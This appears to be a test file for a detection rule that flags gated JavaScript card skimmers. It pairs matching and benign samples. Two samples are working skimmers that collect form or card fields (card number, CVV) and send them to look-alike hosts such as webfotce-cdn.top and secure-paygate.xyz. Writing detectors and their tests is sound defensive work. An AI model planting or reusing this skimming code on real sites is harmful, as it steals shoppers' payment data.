// Tests for gated-card-collector: a URL or once-per-visitor gate, card/form collection and a
// send to an unknown or look-alike host. The finding is reported on the (first) gate.
// Sections are separate scripts.

// Ticketmaster-style: URL gate, cookie gate, every field, base64, POST.
// ruleid: gated-card-collector
if (/order|checkout|onestep/.test(location.href)) {
  if (document.cookie.indexOf('_tmx=') === -1) {
    document.addEventListener('submit', function () {
      var out = [];
      document.querySelectorAll('input, select, textarea').forEach(function (f) { out.push(f.value); });
      var x = new XMLHttpRequest();
      x.open('POST', 'https://webfotce-cdn.top/js/');
      x.send('info=' + btoa(out.join('&')) + '&hostname=' + location.hostname);
    });
  }
}

// ---
// localStorage once-per-visitor gate, card fields, sendBeacon.
// ruleid: gated-card-collector
if (!localStorage.getItem('_sent')) {
  window.addEventListener('beforeunload', function () {
    var c = document.getElementById('card-number').value + ';' + document.getElementById('cvv').value;
    navigator.sendBeacon('https://secure-paygate.xyz/q', c);
    localStorage.setItem('_sent', '1');
  });
}

// ---
// Checkout-only validation: gated on the URL, reads the card, posts to the site.
// ok: gated-card-collector
if (location.pathname.indexOf('/checkout') === 0) {
  var num = document.querySelector('#cc_number').value;
  fetch('/checkout/validate-card', { method: 'POST', body: JSON.stringify({ bin: num.slice(0, 6) }) });
}

// ---
// Consent gate in a cookie, analytics to Google only; no card or form data.
// ok: gated-card-collector
if (document.cookie.indexOf('consent=analytics') !== -1) {
  var s = document.createElement('script');
  s.src = 'https://www.googletagmanager.com/gtag/js?id=G-ABC123';
  document.head.appendChild(s);
}
